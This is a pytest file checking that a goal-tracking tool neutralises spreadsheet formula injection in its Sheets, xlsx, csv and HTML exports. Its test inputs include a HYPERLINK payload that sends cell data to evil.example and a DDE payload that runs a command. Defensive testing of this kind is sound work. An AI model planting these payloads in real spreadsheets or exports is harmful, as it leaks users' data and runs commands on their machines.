"""Guarantee 8: formula injection. Untrusted text that starts like a formula (= + - @, a tab, a
carriage return) reaches every sink as text: a Sheets string cell (never a formula), an xlsx
string cell with the quote prefix, a csv field with a leading apostrophe. Real negative numbers
stay numbers in all three.

The text comes the way it would in production: Jira summaries, status names and assignees from
the fake Jira, GitHub titles and logins from the fake GitHub, a goal's title and owner from the
YAML; the negative number is a metric value from a csv file.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl
import pytest

from tests.fakes.github import TOKEN as GH_TOKEN
from tests.fakes.github import FakeGitHub
from tests.fakes.jira import Auth, FakeJira
from tests.fakes.sheets import FakeSheets, FakeSpreadsheet
from tests.reliability.helpers import Workspace, config, cycle_around_today, sheet_rows

EMAIL, TOKEN = "bot@acme.example", "atl-reliability-0123456789"
SHEET = "STATUS1"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
GOALS = """\
  - id: G1
    title: "=SUM(A1:A9)"
    owner: "@dana"
    key_results:
      - {id: G1.1, title: "+Jira", measure: percent_done, select: [{source: jira}]}
      - {id: G1.2, title: "-GitHub", measure: percent_done, select: [{source: gh}]}
      - id: G1.3
        title: Net churn
        measure: metric
        metric: net_churn
        baseline: 0
        target: -10
        direction: down
"""
METRICS = "name,date,value\nnet_churn,2026-10-20,-1.25\nnet_churn,{day},-3.5\n"


@pytest.fixture(scope="module")
def published(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Workspace, FakeSpreadsheet]]:
    old = datetime.now(UTC) - timedelta(days=3)
    with (
        FakeJira("cloud", auth=Auth("basic", EMAIL, TOKEN)) as jira,
        FakeGitHub(token=GH_TOKEN) as github,
        FakeSheets() as sheets,
    ):
        for n, title in enumerate(HOSTILE, start=1):
            status = ("=1+2", "indeterminate") if n == 1 else ("To Do", "new")
            jira.add_issue(f"PAY-{n}", summary=title, updated=old, assignee="@mallory")
            jira.transition(f"PAY-{n}", *status, at=old)
        web = github.add_repo("acme/web")
        for n, title in enumerate(HOSTILE, start=1):
            web.add_issue(n, title=title, updated=old, assignee="+eve")
        book = sheets.add_spreadsheet(SHEET)
        ws = Workspace(
            tmp_path_factory.mktemp("formulas"),
            env={"JIRA_EMAIL": EMAIL, "JIRA_API_TOKEN": TOKEN, "GITHUB_TOKEN": GH_TOKEN},
        )
        day = (datetime.now(UTC) - timedelta(days=1)).date()
        (ws.root / "metrics.csv").write_text(METRICS.format(day=day), encoding="utf-8")
        ws.write_config(
            config(
                f"  jira: {{type: jira, url: '{jira.url}', jql: project = PAY}}\n"
                f"  gh: {{type: github, repos: [acme/web], base_url: '{github.url}'}}\n"
                "  kpi: {type: file, path: metrics.csv, format: csv_metrics}\n",
                f"  - {{type: sheets, spreadsheet_id: {SHEET}, endpoint: '{sheets.url}/', "
                "credentials: anonymous}\n"
                "  - {type: csv, path: out/csv}\n"
                "  - {type: xlsx, path: out/status.xlsx}\n"
                "  - {type: html, path: out/status.html}\n",
                GOALS,
                cycle=cycle_around_today(),
            )
        )
        run = ws.goalsync("run")
        assert run.code == 0, run
        yield ws, book


def hostile_text(row: dict[str, Any]) -> list[str]:
    return [v for v in row.values() if isinstance(v, str) and v.lstrip("'").startswith(TRIGGERS)]


def test_the_sheet_holds_text_never_a_formula(published: tuple[Workspace, FakeSpreadsheet]) -> None:
    _, book = published
    link = re.compile(r'=HYPERLINK\("https?://[^"]*","(PAY-\d|acme/web#\d)"\)')
    for sheet in book.sheets:
        for (row, col), formula in sheet.formulas().items():
            # goalsync's own links on item keys are the only formulas in the sheet
            assert link.fullmatch(formula), (sheet.title, row, col, formula)
            assert book.values(sheet.title, "FORMULA")[0][col] in ("Key", "Item")
    items = sheet_rows(book, "Items")
    titles = sorted(str(r["Title"]) for r in items)
    assert titles == sorted(HOSTILE * 2)  # each, unchanged, from Jira and from GitHub
    assert {r["Status"] for r in items} >= {"=1+2"}
    assert {r["Assignee"] for r in items} == {"@mallory", "+eve"}
    status = {str(r["ID"]): r for r in sheet_rows(book, "Status")}
    assert (status["G1"]["Title"], status["G1"]["Owner"]) == ("=SUM(A1:A9)", "@dana")
    assert (status["G1.1"]["Title"], status["G1.2"]["Title"]) == ("+Jira", "-GitHub")
    g13 = book.sheet("Status").cells
    value_col = book.values("Status")[0].index("Value")
    kr_row = next(r for r in range(1, 10) if book.sheet("Status").value(r, 0) == "G1.3")
    assert g13[(kr_row, value_col)]["userEnteredValue"] == {"numberValue": -3.5}


def test_xlsx_cells_are_typed_text_with_the_quote_prefix(
    published: tuple[Workspace, FakeSpreadsheet],
) -> None:
    ws, _ = published
    wb = openpyxl.load_workbook(ws.out / "status.xlsx")
    seen: list[str] = []
    for sheet in wb:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value
                if isinstance(value, str) and value.startswith((*TRIGGERS, "\n")):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, value)
                    seen.append(value)
    assert {t for t in HOSTILE if not t.startswith("\r")} <= set(seen)
    # The CR leads in the file too; XML reads a raw CR back as a line feed: text all the same.
    assert "\n=1+1" in seen
    status = {r[0].value: r for r in wb["Status"].iter_rows(min_row=2)}
    header = [c.value for c in wb["Status"][1]]
    value = status["G1.3"][header.index("Value")]
    assert (value.value, value.data_type) == (-3.5, "n")


def test_csv_fields_get_a_leading_apostrophe_and_numbers_stay_numbers(
    published: tuple[Workspace, FakeSpreadsheet],
) -> None:
    ws, _ = published
    items = ws.csv_rows("Items")
    assert sorted(r["Title"] for r in items) == sorted(f"'{t}" for t in HOSTILE * 2)
    assert {r["Assignee"] for r in items} == {"'@mallory", "'+eve"}
    for tab in ("Status", "Trends", "Risks", "Items", "Unaligned", "Workload", "History", "Run"):
        for row in ws.csv_rows(tab):
            for text in row.values():
                if text.startswith(TRIGGERS):  # only numbers may start like a formula
                    assert re.fullmatch(r"-\d+(\.\d+)?", text), (tab, text)
    status = ws.status()
    assert status["G1.3"]["Value"] == "-3.5"
    assert (status["G1"]["Title"], status["G1"]["Owner"]) == ("'=SUM(A1:A9)", "'@dana")


def test_the_html_page_escapes_the_same_text(published: tuple[Workspace, FakeSpreadsheet]) -> None:
    ws, _ = published
    page = (ws.out / "status.html").read_text(encoding="utf-8")
    assert "<script" not in page.lower()
    assert '="&amp;A1' in page or "=SUM(A1:A9)" in page
